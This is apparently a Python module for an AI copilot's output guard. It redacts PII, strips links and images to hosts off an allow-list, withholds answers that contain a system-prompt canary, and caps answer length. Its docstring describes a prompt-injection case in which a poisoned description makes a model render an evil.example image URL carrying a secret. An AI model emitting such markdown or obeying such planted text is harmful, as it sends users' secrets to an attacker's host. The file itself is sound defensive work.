"""Output guard: what the copilot says passes here before a user, a channel or a log sees it.

- PII is redacted unless the caller may read PII (policy `pii: allow`); pseudonymised placeholders are
  restored only for callers who may read PII.
- Markdown images and links to hosts not on the allow-list are stripped, in every form a renderer follows:
  inline, reference-style definitions, protocol-relative (`//host/...`), autolinks, bare URLs and HTML
  attributes (`href`, `src`, `srcset`, `action`...). A poisoned description can ask a model to render
  `![](https://evil.example/?q=<secret>)`, which leaks data the moment it is displayed.
- PII is judged with the detector's own decision threshold (`pii.DECISION_THRESHOLD`): what `pii scan`
  reports is what the guard redacts. Street addresses are found by shape, not by the NER model.
- A canary planted in system prompts: if it shows up in an answer, the system prompt leaked, and the
  answer is withheld.
- Size caps: answers longer than the cap are cut, with a note saying so.
"""

from __future__ import annotations

import re
import secrets
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlparse

from meshpilot.guardrails import pii

DEFAULT_ALLOWED_HOSTS = ("localhost", "127.0.0.1")
# LOCATION from the NER model is not redacted from answers: product, table and team names read like places
# to it. Street addresses are redacted by their shape (pii.street_addresses).
REDACTED_ENTITIES = tuple(e for e in pii.ENTITIES if e != "LOCATION")
REDACTION_THRESHOLD = pii.DECISION_THRESHOLD
MAX_CHARS = 20_000

_IMAGE = re.compile(r"!\[([^\]]*)\]\(\s*<?([^)\s>]+)>?(?:\s+[\"'(][^\"')]*[\"')])?\s*\)")
_LINK = re.compile(r"(?<!!)\[([^\]]*)\]\(\s*<?([^)\s>]+)>?(?:\s+[\"'(][^\"')]*[\"')])?\s*\)")
_REFERENCE = re.compile(r"^[ ]{0,3}\[([^\]]+)\]:[ \t]*<?(\S+?)>?(?:[ \t]+.*)?$", re.MULTILINE)
_AUTOLINK = re.compile(r"<((?:[a-z][a-z0-9+.-]{1,31}:|//)[^\s<>]*)>", re.IGNORECASE)
_HTML_TAG = re.compile(r"<\s*(img|a|iframe|script|object|embed|form|link|video|audio|source|base|meta|svg|image|"
                       r"input|button|frame|style)\b[^>]*>", re.IGNORECASE)
# What renderers turn into a request or a click: web URLs, www., protocol-relative //host, script and data
# URLs. Other schemes (postgres://, s3://: OpenLineage namespaces) are text to every renderer.
_BARE_URL = re.compile(r"(?:\b(?:https?|ftp|wss?)://|\b(?:javascript|vbscript|data):|\bwww\.|(?<![\w/:])//"
                       r"(?=[\w-]+(?:\.[\w-]+)+))[^\s)<>\"'\]]*", re.IGNORECASE)


def new_canary() -> str:
    """A random marker to plant in a system prompt; it must never appear in an answer."""
    return f"mp-canary-{secrets.token_hex(6)}"


@dataclass
class GuardedOutput:
    text: str
    actions: list[str] = field(default_factory=list)  # what the guard changed, for the audit log
    blocked: bool = False

    def as_dict(self) -> dict:
        return {"text": self.text, "actions": self.actions, "blocked": self.blocked}


def guard_output(text: str, *, may_read_pii: bool, allowed_hosts: tuple[str, ...] = DEFAULT_ALLOWED_HOSTS,
                 canary: str | None = None, pseudonymizer: pii.Pseudonymizer | None = None,
                 max_chars: int = MAX_CHARS) -> GuardedOutput:
    actions: list[str] = []
    if canary and canary in text:
        return GuardedOutput("The answer was withheld: it contained part of the system prompt.",
                             ["blocked: system prompt canary leaked"], blocked=True)
    if len(text) > max_chars:
        text = text[:max_chars] + f"\n\n[answer cut at {max_chars} characters]"
        actions.append(f"truncated to {max_chars} characters")

    def allowed(url: str) -> bool:
        return url_allowed(url, allowed_hosts)

    def host(url: str) -> str:
        return urlparse(url if "://" in url or url.startswith("//") else "//" + url).hostname or url[:40]

    def strip(pattern: re.Pattern, url_of, label: str, replacement) -> None:
        """Replace each match whose URL is not allowed, and say so."""
        nonlocal text

        def one(match: re.Match) -> str:
            url = url_of(match)
            if allowed(url):
                return match.group(0)
            actions.append(f"{label}: {host(url)}")
            return replacement(match)

        text = pattern.sub(one, text)

    def tag(match: re.Match) -> str:
        actions.append(f"HTML {match.group(1).lower()} removed")
        return "[image removed]" if match.group(1).lower() in ("img", "image", "svg") else ""

    strip(_IMAGE, lambda m: m.group(2), "image removed", lambda m: f"[image removed: {m.group(1) or 'external image'}]")
    strip(_LINK, lambda m: m.group(2), "link removed", lambda m: m.group(1))
    strip(_REFERENCE, lambda m: m.group(2), "link definition removed", lambda m: f"[{m.group(1)}]: #removed")
    strip(_AUTOLINK, lambda m: m.group(1), "link removed", lambda m: "[link removed]")
    text = _HTML_TAG.sub(tag, text)
    strip(_BARE_URL, lambda m: ("https://" if m.group(0).lower().startswith("www.") else "") + m.group(0),
          "URL removed", lambda m: "[link removed]")

    if may_read_pii:
        if pseudonymizer is not None:
            text = pseudonymizer.restore(text)
    else:
        # Placeholders of values read from the data stay placeholders; those of public values (the user's own
        # words, owners' contacts) return.
        findings = redaction_findings(text)
        if findings:
            text, _ = pii.anonymize(text, "redact", findings=findings)
            actions.append("PII redacted: " + ", ".join(sorted({f.entity_type for f in findings})))
        if pseudonymizer is not None:
            text = pseudonymizer.restore(text, public_only=True)
    return GuardedOutput(text, actions)


def url_allowed(url: str, allowed_hosts: tuple[str, ...] = DEFAULT_ALLOWED_HOSTS) -> bool:
    """Relative links, #anchors and mesh:// citations; http(s) links to allowed hosts. Protocol-relative
    `//host` is a link to that host."""
    url = url.strip()
    parsed = urlparse(url)
    if parsed.scheme == "mesh":
        return True
    if parsed.scheme == "" and not parsed.netloc and not url.startswith(("//", "\\", "/\\")):
        return True
    if parsed.scheme not in ("", "http", "https"):
        return False
    host = (parsed.hostname or "").lower()
    return bool(host) and any(host == h or host.endswith("." + h) for h in allowed_hosts)


def redaction_findings(text: str) -> list[pii.Finding]:
    """What the guard redacts: the detector's findings at its decision threshold, plus street addresses."""
    findings = pii.analyze(text, REDACTED_ENTITIES, threshold=REDACTION_THRESHOLD)
    for address in pii.street_addresses(text):
        if not any(address.start < f.end and f.start < address.end for f in findings):
            findings.append(address)
        else:  # an address overlapping a name ("Victoria Road"): the address span wins, it is longer
            findings = [f for f in findings if not (address.start < f.end and f.start < address.end)] + [address]
    return sorted(findings, key=lambda f: f.start)


# What any entity the guard redacts needs at least one of: an @, seven digits, an IP or date shape, a
# capitalised word (names, places, streets). Values with none (statuses, codes, short ids) cannot hold one,
# so a result made only of them never loads the NER model (2-4 s for a one-shot command).
_PII_SHAPE = re.compile(r"@|(?:\d\D{0,3}){7}|\d{1,3}(?:\.\d{1,3}){3}|\d{1,4}[-/.]\d{1,2}[-/.]\d{1,4}|[A-ZÀ-Þ][a-zß-ÿ]"
                        r"|[0-9a-fA-F]{1,4}:[0-9a-fA-F]{0,4}:")


def _may_hold_pii(value: str) -> bool:
    return bool(_PII_SHAPE.search(value))


def guard_data(data: Any, guard: Any | None) -> tuple[Any, list[str]]:
    """A structured result as a caller may see it: redacted unless `guard` (an SqlGuard, None when there is
    no policy) may read PII."""
    if guard is None or guard.may_read_pii:
        return data, []
    return redact_values(data)


def redact_values(data: Any) -> tuple[Any, list[str]]:
    """Every string inside `data` (a result: dicts, lists, rows) with PII redacted, analysed in one pass
    over all of them (one NER run, not one per cell). Returns the data and the guard's actions."""
    strings: list[str] = []
    pii.map_strings(data, lambda value: strings.append(value) or value)
    candidates = [v for v in dict.fromkeys(strings) if len(v) > 2 and _may_hold_pii(v)]
    if not candidates:
        return data, []
    separator = "\n\u2029\n"  # a paragraph break: no finding spans it
    joined = separator.join(candidates)
    findings = redaction_findings(joined)
    if not findings:
        return data, []
    replaced: dict[str, str] = {}
    offset = 0
    for value in candidates:
        end = offset + len(value)
        inside = [pii.Finding(f.entity_type, f.start - offset, f.end - offset, f.score, f.text)
                  for f in findings if f.start >= offset and f.end <= end]
        if inside:
            replaced[value] = pii.anonymize(value, "redact", findings=inside)[0]
        offset = end + len(separator)
    kinds = sorted({f.entity_type for f in findings})
    return pii.map_strings(data, lambda value: replaced.get(value, value)), ["PII redacted: " + ", ".join(kinds)]
